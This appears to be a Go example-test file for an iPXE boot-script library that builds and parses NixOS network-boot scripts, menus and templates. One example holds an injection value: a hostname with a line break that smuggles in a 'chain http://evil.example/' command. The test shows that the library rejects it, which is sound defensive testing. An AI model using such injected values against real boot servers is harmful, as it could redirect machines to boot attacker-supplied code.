package ipxe_test

import (
	"errors"
	"fmt"
	"os"
	"time"

	"github.com/nixboot/nixboot/ipxe"
)

// Boot a kernel and initrd with an ordered kernel command line.
func ExampleBootSpec_Script() {
	spec := ipxe.BootSpec{
		Kernel:  "http://10.0.0.1/nixos/bzImage",
		Initrds: []ipxe.ImageRef{{URL: "http://10.0.0.1/nixos/initrd"}},
		Args: ipxe.Args{
			ipxe.KV("init", "/nix/store/0c8ykm2w-nixos-system-lab1/init"),
			ipxe.KV("console", "ttyS0,115200"),
			ipxe.Flag("quiet"),
		},
	}
	s, err := spec.Script()
	if err != nil {
		fmt.Println(err)
		return
	}
	s.WriteTo(os.Stdout)
	// Output:
	// #!ipxe
	// kernel http://10.0.0.1/nixos/bzImage init=/nix/store/0c8ykm2w-nixos-system-lab1/init console=ttyS0,115200 quiet initrd=initrd
	// initrd --name initrd http://10.0.0.1/nixos/initrd
	// boot
}

// The chain pattern: a generic script that asks the server for a
// per-machine one, identifying the machine with iPXE settings.
func ExampleMachineScriptURL() {
	s := &ipxe.Script{Commands: []ipxe.Command{
		ipxe.DHCP{Retries: 2},
		ipxe.Chain{URL: ipxe.MachineScriptURL("http://10.0.0.1/boot.ipxe")},
	}}
	s.WriteTo(os.Stdout)
	// Output:
	// #!ipxe
	// dhcp || dhcp || dhcp
	// chain http://10.0.0.1/boot.ipxe?mac=${mac}&uuid=${uuid}&arch=${buildarch}
}

// A menu of NixOS generations, newest first and default.
func ExampleBootMenu() {
	gen := func(n string) ipxe.BootSpec {
		return ipxe.BootSpec{
			Kernel:  n + "/bzImage",
			Initrds: []ipxe.ImageRef{{URL: n + "/initrd", Name: "initrd"}},
			Args:    ipxe.Args{ipxe.KV("init", "/nix/store/"+n+"-nixos-system/init")},
		}
	}
	s, err := ipxe.BootMenu{
		Title:   "lab1",
		Timeout: 5 * time.Second,
		Entries: []ipxe.MenuEntry{
			{Label: "g2", Title: "Generation 2", Boot: gen("g2")},
			{Label: "g1", Title: "Generation 1", Boot: gen("g1")},
		},
	}.Script()
	if err != nil {
		fmt.Println(err)
		return
	}
	s.WriteTo(os.Stdout)
	// Output:
	// #!ipxe
	// menu lab1
	// item g2 Generation 2
	// item g1 Generation 1
	// choose --default g2 --timeout 5000 nixboot-choice && goto ${nixboot-choice}
	// :g2
	// kernel g2/bzImage init=/nix/store/g2-nixos-system/init initrd=initrd
	// initrd --name initrd g2/initrd
	// boot
	// :g1
	// kernel g1/bzImage init=/nix/store/g1-nixos-system/init initrd=initrd
	// initrd --name initrd g1/initrd
	// boot
}

// Values from outside (an inventory, a request) cannot change a script's
// structure: a line break or an expansion is an error naming the field.
func ExampleScript_Render_injection() {
	hostname := "lab1\nchain http://evil.example/"
	s := &ipxe.Script{Commands: []ipxe.Command{
		ipxe.Kernel{URL: ipxe.Lit("bzImage"), Args: ipxe.Args{ipxe.KV("hostname", hostname)}},
	}}
	_, err := s.Render()
	fmt.Println(errors.Is(err, ipxe.ErrInvalidValue))
	fmt.Println(err)
	// Output:
	// true
	// command 0: kernel Args: Args[0] (hostname): ipxe: invalid value: "lab1\nchain http://evil.example/" contains a line break
}

// Read the boot spec out of a NixOS netboot.ipxe.
func ExampleParseBootSpec() {
	src := []byte(`#!ipxe
kernel bzImage init=/nix/store/9rj1g9vh-nixos-system-nixos-24.05/init initrd=initrd loglevel=4 ${cmdline}
initrd initrd
boot
`)
	spec, err := ipxe.ParseBootSpec(src)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println("kernel:", spec.Kernel)
	fmt.Println("initrd:", spec.Initrds[0].URL)
	fmt.Println("init:", spec.Init)
	fmt.Println("cmdline:", spec.Args)
	// Output:
	// kernel: bzImage
	// initrd: initrd
	// init: /nix/store/9rj1g9vh-nixos-system-nixos-24.05/init
	// cmdline: init=/nix/store/9rj1g9vh-nixos-system-nixos-24.05/init initrd=initrd loglevel=4 ${cmdline}
}

// Callers' own script templates: every action is validated, and functions
// cover the places that need more than one word.
func ExampleParseTemplate() {
	tpl, err := ipxe.ParseTemplate("machine", `#!ipxe
echo {{words .Message}}
kernel {{.Base}}/bzImage {{arg "hostname" .Hostname}} {{cmdline .Cmdline}} mac={{setting "mac"}}
boot
`)
	if err != nil {
		fmt.Println(err)
		return
	}
	err = tpl.Execute(os.Stdout, map[string]string{
		"Message":  "Booting lab1",
		"Base":     "http://10.0.0.1",
		"Hostname": "lab1",
		"Cmdline":  "console=ttyS0 quiet",
	})
	if err != nil {
		fmt.Println(err)
	}
	// Output:
	// #!ipxe
	// echo Booting lab1
	// kernel http://10.0.0.1/bzImage hostname=lab1 console=ttyS0 quiet mac=${mac}
	// boot
}
